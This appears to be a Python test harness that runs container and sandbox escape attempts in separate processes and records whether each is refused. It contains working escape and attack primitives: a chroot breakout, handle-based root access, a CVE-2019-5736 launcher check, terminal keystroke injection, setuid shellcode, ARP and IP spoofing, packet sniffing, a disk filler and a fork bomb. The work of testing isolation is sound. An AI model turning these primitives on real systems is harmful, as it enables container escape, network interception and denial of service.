"""Attempts to get out of a task, each tried in a process of its own.

    escapes.py ATTEMPTS WHERE              files of JSON: [[name, program], …] and what the programs know as `where`
    escapes.py --serve WHERE               what attempts are aimed at: whoever may reach it is told who does
    … --prepare FOLDER ATTEMPTS WHERE      writes itself and both of those, given as text, into a folder

A program is an expression. A line of JSON for each: its name, and what came of it: the name of an error, of the signal it
died of, the text that it is, or "done".
"""

import concurrent.futures
import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import signal
import socket
import stat
import struct
import sys
import tempfile
import threading
import time

CHILDREN_MAX = 8
ATTEMPT_SECONDS_MAX = 180
# Silence is a refusal; what must answer has longer to do it.
PATIENCE_SECONDS = 1.5
PATIENCE_LONG_SECONDS = 15
SEEN_MAX = 1000
OPEN_PORT, TALK_PORT, CLOSED_PORT = 9000, 9001, 9002

# Of x86-64; from 424 on they are every architecture's.
NUMBERS = {
    "clone": 56, "ptrace": 101, "syslog": 103, "personality": 135, "vhangup": 153, "pivot_root": 155, "adjtimex": 159,
    "chroot": 161, "acct": 163, "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167, "swapoff": 168,
    "reboot": 169, "sethostname": 170, "setdomainname": 171, "iopl": 172, "ioperm": 173, "init_module": 175,
    "delete_module": 176, "quotactl": 179, "clock_settime": 227, "kexec_load": 246, "add_key": 248, "request_key": 249,
    "keyctl": 250, "ioprio_set": 251, "unshare": 272, "perf_event_open": 298, "fanotify_init": 300,
    "name_to_handle_at": 303, "open_by_handle_at": 304, "clock_adjtime": 305, "setns": 308, "process_vm_readv": 310,
    "process_vm_writev": 311, "kcmp": 312, "finit_module": 313, "kexec_file_load": 320, "bpf": 321, "userfaultfd": 323,
    "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fsconfig": 431, "fsmount": 432,
    "fspick": 433, "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438, "process_madvise": 440, "mount_setattr": 442,
    "statmount": 457, "listmount": 458,
}
AT_FDCWD = -100
AT_EMPTY_PATH = 0x1000
NAMESPACES = {
    "mnt": 0x0002_0000, "cgroup": 0x0200_0000, "uts": 0x0400_0000, "ipc": 0x0800_0000, "user": 0x1000_0000,
    "pid": 0x2000_0000, "net": 0x4000_0000, "time": 0x0000_0080,
}
LIBC = ctypes.CDLL(None, use_errno=True)
where = {}


def number(nr, *arguments):
    """A system call; every argument is a whole register."""
    words = []
    for argument in arguments:
        if isinstance(argument, int):
            words.append(ctypes.c_long(argument))
        else:
            words.append(argument)
    LIBC.syscall.restype = ctypes.c_long
    result = LIBC.syscall(ctypes.c_long(nr), *words)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def call(name, *arguments):
    return number(NUMBERS[name], *arguments)


def words(*values):
    """An array of 64-bit values, to point at."""
    return (ctypes.c_uint64 * len(values))(*values)


def name_of(error):
    if isinstance(error, (socket.timeout, TimeoutError)) and not error.errno:
        return "timeout"
    return errno.errorcode.get(error.errno, str(error))


def outcome(attempt):
    try:
        attempt()
        return "done"
    except OSError as error:
        return name_of(error)


def each(tries, run=map):
    """"done" if one of them is; else what each said, once."""
    said = set(run(outcome, tries))
    return "done" if "done" in said else "|".join(sorted(said)) or "ENOENT"


def each_end(*ends):
    """At once, as most of them are silent."""
    with concurrent.futures.ThreadPoolExecutor(len(ends)) as pool:
        return each([lambda end=end: connect(*end) for end in ends], pool.map)


def writable(*patterns):
    """Opens for writing, and writes nothing."""
    paths = [path for pattern in patterns for path in glob.glob(pattern)]
    return each([lambda path=path: os.close(os.open(path, os.O_WRONLY)) for path in paths])


def all_writable(top):
    """What below `top` could be written by who asks, processes' own files aside."""
    seen, found = 0, []
    for folder, folders, files in os.walk(top):
        if folder == "/proc":
            folders[:] = [name for name in folders if not name.isdigit() and name not in ("self", "thread-self")]
        for name in files:
            seen += 1
            path = os.path.join(folder, name)
            try:
                mode = os.stat(path).st_mode
            except OSError:
                continue
            # What is no file is the null device, over what is masked. Where nobody may write root may as well, but there is
            # nothing that would take it.
            if stat.S_ISREG(mode) and mode & 0o222 and os.access(path, os.W_OK, effective_ids=True):
                found.append(path)
    if seen < 100:
        return f"only {seen} files seen"
    return " ".join(sorted(found)[:8]) or "nothing"


def shows(path):
    """Whether there is anything in it."""
    file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    return "done" if os.read(file, 64) else "nothing"


def device(kind, major, minor):
    """Makes the node and opens it."""
    flag = {"b": stat.S_IFBLK, "c": stat.S_IFCHR}[kind]
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "node")
        os.mknod(path, flag | 0o600, os.makedev(major, minor))
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))


def disks():
    """Every one there is, as /proc/partitions has them; and a loop device."""
    with open("/proc/partitions") as lines:
        found = [tuple(map(int, line.split()[:2])) for line in list(lines)[2:]]
    return each([lambda number=number: device("b", *number) for number in [*found, (7, 0)]])


def ports():
    """What leads to a guest's host: the ports of its virtio consoles."""
    with open("/proc/devices") as lines:
        found = [line.split() for line in lines if line.rstrip().endswith(("virtio-portsdev", "hvc"))]
    return each([lambda major=major, minor=minor: device("c", int(major), minor) for major, _ in found for minor in range(4)])


def clone(flags):
    """A child by `clone`, which ends at once."""
    child = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)


def clone3(flags):
    arguments = words(flags, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    child = call("clone3", arguments, ctypes.sizeof(arguments))
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)


def by_handle():
    """Opens the root by its number instead of its name."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    try:
        call("name_to_handle_at", AT_FDCWD, b"/", handle, ctypes.byref(mount), 0)
    except OSError as error:
        # An overlay has none; what was wanted is never an overlay's.
        if error.errno != errno.EOPNOTSUPP:
            raise
    call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


def out_of_chroot():
    """The way out that chroot has always had; it ends at the real root of the mount namespace."""
    before = os.stat("/")
    here = os.open("/", os.O_RDONLY)
    os.chroot(tempfile.mkdtemp())
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return "own root" if os.path.samestat(os.stat("/"), before) else "another root"


def same_root(*paths):
    """Whether all of these are the root the program has already."""
    for path in paths:
        if not os.path.samestat(os.stat(path), os.stat("/")):
            return f"another root at {path}"
    return "own root"


def other_architecture():
    """getpid by the system call table of 32 bits."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return "done" if function() == os.getpid() else "not run"


def executed(path):
    """The exit code of a program, executed as somebody who is not root."""
    program = os.open(path, os.O_RDONLY)
    child = os.fork()
    if child == 0:
        try:
            if os.geteuid() == 0:
                os.setgroups([])
                os.setgid(1000)
                os.setuid(1000)
            os.execve(program, ["program"], {})
        except OSError as error:
            os._exit(100 + error.errno)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code >= 100 and code < 200:
        raise OSError(code - 100, "execve")
    return code


def program(path, code, mode):
    """A program of nothing but this machine code."""
    base, head = 0x400000, 64 + 56
    elf = b"\x7fELF\x02\x01\x01" + bytes(9)
    elf += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + head, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, head + len(code), head + len(code), 4096)
    with open(path, "wb") as file:
        file.write(elf + code)
    os.chmod(path, mode)
    return path


def set_uid():
    """A program of root's with the set-user-ID bit, which exits with who it is."""
    path = "/shared/setuid"
    if os.geteuid() == 0:
        path = make_set_uid(tempfile.mkdtemp())
    return {0: "done", 1: "not root"}[executed(path)]


def make_set_uid(folder):
    # exit(geteuid() >> 3 & 1): 1 for 1000.
    code = bytes.fromhex("b86b0000000f05" "89c7" "c1ef03" "83e701" "b83c0000000f05")
    return program(os.path.join(folder, "setuid"), code, 0o4755)


def file_capabilities():
    """A program whose file gives it CAP_SYS_ADMIN, which exits with what sethostname(0, -1) came to."""
    code = bytes.fromhex("b8aa000000" "31ff" "48c7c6ffffffff" "0f05" "f7d8" "89c7" "b83c000000" "0f05")
    path = program(os.path.join(tempfile.mkdtemp(), "capable"), code, 0o755)
    os.setxattr(path, "security.capability", struct.pack("<IIIII", 0x0200_0001, 1 << 21, 0, 0, 0))
    return {errno.EPERM: "refused", errno.EINVAL: "done"}[executed(path)]


def rights(path="/proc/self/status"):
    """What the kernel says of a process's rights."""
    wanted = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    with open(path) as lines:
        fields = dict(line.rstrip("\n").split(":\t", 1) for line in lines if ":\t" in line)
    return " ".join(f"{name}={fields[name].lstrip('0') or '0'}" for name in wanted)


def checked():
    """The rights of the program of this container's health check, which leaves them there."""
    while not checks_done():
        time.sleep(0.02)
    return rights("/tmp/status")


def set_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        request = b"lo".ljust(16, b"\0") + struct.pack("=HH", socket.AF_INET, 0) + socket.inet_aton("127.0.0.1")
        fcntl.ioctl(end, 0x8916, request.ljust(40, b"\0"))  # SIOCSIFADDR


def shared_memory():
    """POSIX shared memory, System V's and message queues are looked up by name: one of the test's own."""
    os.stat("/dev/shm/" + where["memory"])


def terminal():
    """Types into the terminal that controls it; before, in a child, into one of that child's own."""
    child = os.fork()
    if child == 0:
        os.setsid()
        try:
            type_into(os.openpty()[1])
        except OSError as error:
            # Since Linux 6.2 a machine may refuse it to all.
            os._exit(error.errno != errno.EIO)
        os._exit(0)
    if os.waitpid(child, 0)[1] != 0:
        return "it cannot type"
    type_into(os.open("/dev/tty", os.O_RDWR))


def type_into(terminal):
    fcntl.ioctl(terminal, 0x540E, 0)  # TIOCSCTTY
    fcntl.ioctl(terminal, 0x5412, b"x")  # TIOCSTI


# Where attempts beside it make programs of their own.
PROGRAMS_OF_ATTEMPTS = ("/tmp/", "/shared/")


def launcher():
    """While programs are executed into this container (CVE-2019-5736): the file of what launches them. To open it for writing
    one would have to wait until nobody runs it; what counts is whether it could be written then."""
    own = {os.stat(path).st_ino for path in glob.glob("/bin/*") + glob.glob("/usr/bin/*") if os.path.exists(path)}
    said, checks = set(), checks_done()
    while checks_done() == checks:
        for path in glob.glob("/proc/[0-9]*/exe"):
            try:
                file = os.open(path, os.O_PATH)
            except OSError:
                # Not ours to look at, as long as it is the launcher.
                continue
            others = os.readlink(f"/proc/self/fd/{file}").startswith(PROGRAMS_OF_ATTEMPTS)
            if os.fstat(file).st_ino not in own and not others:
                said.add("read-only" if os.fstatvfs(file).f_flag & os.ST_RDONLY else "done")
            os.close(file)
    return "|".join(sorted(said)) or "never seen"


def checks_done():
    """How often this container's health check has run."""
    return os.path.getsize("/tmp/checks") if os.path.exists("/tmp/checks") else 0


def terminals():
    """As many as there are to be had."""
    held = []
    try:
        while len(held) < 1000:
            held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    except OSError as error:
        if error.errno != errno.ENOSPC or len(held) > 300:
            raise
        return "few"


def fill(folder, size):
    """A file of `size` bytes; nothing is written, only taken."""
    with tempfile.NamedTemporaryFile(dir=folder) as file:
        # It is less that stops it, and not that it cannot.
        os.posix_fallocate(file.fileno(), 0, 1 << 20)
        os.posix_fallocate(file.fileno(), 0, size)


def ask(address, port, request="GET / HTTP/1.0\r\n\r\n", source=None, patience=PATIENCE_SECONDS):
    """The first line of an answer: the relay takes a connection before it knows whether it leads anywhere."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as end:
        end.settimeout(PATIENCE_LONG_SECONDS if where.get("free") else patience)
        if source:
            end.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
            end.bind((source, 0))
        end.connect((address, port))
        end.sendall(request.encode())
        line = end.makefile(errors="replace").readline()
        if not line:
            raise ConnectionResetError(errno.ECONNRESET, "closed without a word")
        return line


def peek(process):
    """Eight bytes of its memory."""
    here = ctypes.create_string_buffer(8)
    call("process_vm_readv", process, words(ctypes.addressof(here), 8), 1, words(4096, 8), 1, 0)


def connect(address, port, source=None):
    ask(address, port, source=source)


def must_connect(address, port, request="GET / HTTP/1.0\r\n\r\n"):
    return ask(address, port, request, patience=PATIENCE_LONG_SECONDS)


def beyond(address):
    """To an address that the relay is to refuse; before, to one that it is not."""
    must_connect(where["outside"], TALK_PORT)
    connect(address, CLOSED_PORT)


def router():
    """Whatever listens at the router's addresses; before, its resolver."""
    socket.create_connection((where["resolver"], 53), PATIENCE_LONG_SECONDS).close()
    addresses = (where["resolver"], where["gateway"], "169.254.169.253")
    return each_end(*[(address, port) for address in addresses for port in (22, 80, CLOSED_PORT)])


def unix(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as end:
        end.settimeout(PATIENCE_SECONDS)
        end.connect(name)


def status(address, path, source=None):
    """The status of an answer over HTTP; from another address, if one is given."""
    request = f"GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n"
    return ask(address, 80, request, source).split()[1]


def unsigned():
    """A call of the API as AWS's clients make it, but for the signature."""
    request = (
        "POST / HTTP/1.1\r\nHost: ecs\r\nConnection: close\r\nContent-Length: 2\r\n"
        "Content-Type: application/x-amz-json-1.1\r\n"
        "X-Amz-Target: AmazonEC2ContainerServiceV20141113.ListClusters\r\n\r\n{}"
    )
    return ask("100.127.255.1", where["api"], request).split()[1]


def arrived(tag):
    """The addresses from which the victim had a datagram that begins with this."""
    return json.loads(must_connect(where["victim"], TALK_PORT, tag + "\n"))


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source, destination, payload):
    """An IPv4 packet with a UDP datagram."""
    udp = struct.pack(">HHHH", OPEN_PORT, OPEN_PORT, 8 + len(payload), 0) + payload
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0x4000, 64, 17, 0) + ends
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + udp


def ether(address):
    return bytes.fromhex(address.replace(":", ""))


def interface():
    """Name, MAC and address of the task's own."""
    name = next(name for name in os.listdir("/sys/class/net") if name != "lo")
    with open(f"/sys/class/net/{name}/address") as file:
        return name, file.read().strip(), own_address()


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.connect((where["victim"], OPEN_PORT))
        return end.getsockname()[0]


def forged(forge, honest):
    """Sends what is forged, then the same by the same means with nothing forged; who follows has been overtaken by
    nobody."""
    tag = f"{os.getpid()}-{time.monotonic_ns()}-"
    forge(tag.encode() + b"forged")
    # As long as nothing arrives nothing is known, and an emulated machine beside others may take its time.
    until = time.monotonic() + 4 * PATIENCE_LONG_SECONDS
    while time.monotonic() < until:
        honest(tag.encode() + b"honest")
        seen = arrived(tag)
        if any(text.endswith("forged") for text, _ in seen):
            return f"arrived: {seen}"
        if any(text.endswith("honest") for text, _ in seen):
            return "dropped"
        time.sleep(0.05)
    return "nothing arrives"


def forged_source(source):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    send = lambda address, text: raw.sendto(datagram(address, where["victim"], text), (where["victim"], 0))
    own = own_address()
    return forged(lambda text: send(source, text), lambda text: send(own, text))


def next_hop():
    """The MAC that the kernel sends to: where a task has no neighbour but its router, that one's."""
    with open("/proc/net/arp") as lines:
        known = [line.split()[3] for line in list(lines)[1:]]
    return known[0] if known else where["router"]


def forged_frame(mac=None, source=None, to=None, tag=b""):
    """Past the kernel's own routing: whole Ethernet frames."""
    name, own_mac, own = interface()
    router = next_hop()
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((name, 0))

    def send(to, mac, tag, source, text):
        head = ether(to) + ether(mac) + tag + b"\x08\x00"
        wire.send(head + datagram(source, where["victim"], text))

    return forged(
        lambda text: send(to or router, mac or own_mac, tag, source or own, text),
        lambda text: send(router, own_mac, b"", own, text),
    )


def everybody(text):
    """To all there are: as who asks for an address by DHCP does, and as those do who look for their like."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        end.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 8)
        subnet = struct.unpack(">I", socket.inet_aton(where["gateway"]))[0] - 1
        ends = ["255.255.255.255", "224.0.0.1", "224.0.0.251"]
        ends += [socket.inet_ntoa(struct.pack(">I", subnet | (1 << bits) - 1)) for bits in (8, 12, 16)]
        for address in ends:
            try:
                end.sendto(text, (address, OPEN_PORT))
            except OSError:
                # No way there.
                pass


def broadcast():
    own = own_address()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.bind((own, 0))
        return forged(everybody, lambda text: end.sendto(text, (where["victim"], OPEN_PORT)))


def arp(claimed):
    """Says to be `claimed`, again and again; then listens for what is not its own."""
    name, mac, own = interface()
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    wire.bind((name, 0))
    wire.settimeout(0.2)
    broadcast = "ff:ff:ff:ff:ff:ff"

    def say(operation, source, target_mac, target):
        frame = ether(target_mac) + ether(mac) + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
        frame += ether(mac) + socket.inet_aton(source) + ether(target_mac) + socket.inet_aton(target)
        wire.send(frame)

    def hear(wanted, seconds):
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            try:
                frame, ends = wire.recvfrom(2048)
            except socket.timeout:
                continue
            # Not what it, or who shares its interface, sends.
            if ends[2] != socket.PACKET_OUTGOING and wanted(frame):
                return True
        return False

    # The router hears what is said, for it answers a question.
    for _ in range(20):
        say(1, own, broadcast, where["gateway"])
        if hear(lambda frame: frame[12:14] == b"\x08\x06" and frame[21] == 2, 0.5):
            break
    else:
        return "no answer"
    for _ in range(5):
        for target_mac, target in ((broadcast, claimed), (where["router"], where["gateway"])):
            say(2, claimed, target_mac, target)
            say(1, claimed, target_mac, target)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.sendto(b"after the claim", (where["victim"], OPEN_PORT))
    foreign = lambda frame: frame[12:14] == b"\x08\x00" and frame[30:34] == socket.inet_aton(claimed)
    return "heard another's" if hear(foreign, 1) else "nothing"


def sniff():
    """What of others' passes by; its own comes back to it."""
    name, _, own = interface()
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as wire:
        wire.bind((name, 0))
        wire.settimeout(0.2)
        until, heard = time.monotonic() + 1, 0
        while time.monotonic() < until:
            arrived("nothing like this")
            try:
                packet, ends = wire.recvfrom(2048)
            except socket.timeout:
                continue
            if ends[2] == socket.PACKET_OUTGOING:
                continue
            heard += 1
            if packet[16:20] != socket.inet_aton(own):
                return f"heard one for {socket.inet_ntoa(packet[16:20])}"
    return "nothing" if heard else "hears nothing at all"


def ipv6():
    """Asks everybody on the link for an echo; only its own kernel answers."""
    name, _, _ = interface()
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as end:
        end.settimeout(0.5)
        everybody = ("ff02::1", 0, 0, socket.if_nametoindex(name))
        end.sendto(struct.pack(">BBHHH", 128, 0, 0, os.getpid() & 0xFFFF, 1), everybody)
        with open("/proc/net/if_inet6") as lines:
            own = {socket.inet_ntop(socket.AF_INET6, bytes.fromhex(line.split()[0])) for line in lines}
        try:
            while True:
                text, source = end.recvfrom(256)
                if text[0] == 129 and source[0].split("%")[0] not in own:
                    return f"{source[0]} answers"
        except socket.timeout:
            return "nothing"


def neighbours():
    """Asks for a thousand addresses of its subnet: the kernel has one table of neighbours for the whole machine."""
    network = struct.unpack(">I", socket.inet_aton(where["gateway"]))[0]
    name = interface()[0].encode()
    for direct in (False, True):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.setblocking(False)
            if direct:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name)
            for offset in range(200, 1200):
                try:
                    end.sendto(b"", (socket.inet_ntoa(struct.pack(">I", network + offset)), 9))
                except OSError:
                    pass
    with open("/proc/net/arp") as lines:
        count = len(lines.readlines()) - 1
    return "few" if count <= 16 else "done"


def last(go):
    """What would be in others' way: once they are through."""
    while not os.path.exists(go):
        time.sleep(0.02)
    for name, attempt in (("disk", lambda: fill("/tmp", 60 << 30)), ("fork bomb", fork_bomb)):
        print(json.dumps({"name": name, "outcome": each([attempt])}), flush=True)
    print(json.dumps({"name": "end", "outcome": "end"}), flush=True)


def fork_bomb():
    children = []
    try:
        while len(children) < 2000:
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)


def serve():
    """UDP on OPEN_PORT; says on the others what came there; takes whoever comes at the names of `unix`; sends to an address
    that nobody has."""
    seen, held = [], []

    def talk(port):
        end = socket.create_server(("0.0.0.0", port))
        while True:
            peer, _ = end.accept()
            with peer:
                tag = peer.makefile().readline().strip()
                found = [(text, source) for text, source in seen if text.startswith(tag)]
                peer.sendall(json.dumps(found).encode() + b"\n")

    def beacon(end):
        while True:
            end.sendto(b"for nobody else", (where["third"], OPEN_PORT))
            time.sleep(0.05)

    for name in where.get("unix", []):
        held.append(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
        held[-1].bind(name)
        held[-1].listen()
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.bind(("0.0.0.0", OPEN_PORT))
    for port in (TALK_PORT, CLOSED_PORT):
        threading.Thread(target=talk, args=(port,), daemon=True).start()
    if "third" in where:
        threading.Thread(target=beacon, args=(end,), daemon=True).start()
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    print(json.dumps(dict(os.environ)), flush=True)
    while True:
        text, source = end.recvfrom(2048)
        seen.append((text.decode(errors="replace"), source[0]))
        del seen[:-SEEN_MAX]


def prepare(folder, attempts, knowledge):
    """Started as `python3 -c SOURCE`, it is its own third argument."""
    with open("/proc/self/cmdline") as file:
        source = file.read().split("\0")[2]
    for name, text in (("escapes.py", source), ("attempts.json", attempts), ("where.json", knowledge)):
        with open(os.path.join(folder, name), "w") as file:
            file.write(text)
    make_set_uid(folder)
    os.symlink("/../../../../etc", os.path.join(folder, "out"))


def run(program, out):
    # Away from any terminal, and from who would be signalled with it.
    os.setsid()
    signal.alarm(ATTEMPT_SECONDS_MAX)
    if where.get("free") == "Kernel":
        # Where mounting is not refused it is nobody else's business.
        call("unshare", NAMESPACES["mnt"])
    try:
        said = eval(program)
        said = said if isinstance(said, str) else "done"
    except OSError as error:
        said = name_of(error)
    except BaseException as error:
        said = f"{type(error).__name__}: {error}"
    os.write(out, said.encode())
    os._exit(0)


def collect(running):
    child, code = os.wait()
    if child not in running:
        # What an attempt left: the container's first process, which this may be, inherits it.
        return
    name, pipe = running.pop(child)
    with os.fdopen(pipe) as file:
        said = file.read()
    if not said and os.WIFSIGNALED(code):
        said = signal.Signals(os.WTERMSIG(code)).name
    print(json.dumps({"name": name, "outcome": said}), flush=True)


def main():
    if sys.argv[1] == "--prepare":
        return prepare(*sys.argv[2:])
    knowledge = sys.argv[2]
    if knowledge.startswith("{"):
        where.update(json.loads(knowledge))
    else:
        with open(knowledge) as file:
            where.update(json.load(file))
    if sys.argv[1] == "--serve":
        return serve()
    with open(sys.argv[1]) as file:
        attempts = json.load(file)
    running = {}
    for name, program in attempts:
        while len(running) >= CHILDREN_MAX:
            collect(running)
        pipe, out = os.pipe()
        child = os.fork()
        if child == 0:
            run(program, out)
        os.close(out)
        running[child] = (name, pipe)
    while running:
        collect(running)
    print(json.dumps({"name": "end", "outcome": "end"}), flush=True)


if __name__ == "__main__":
    main()
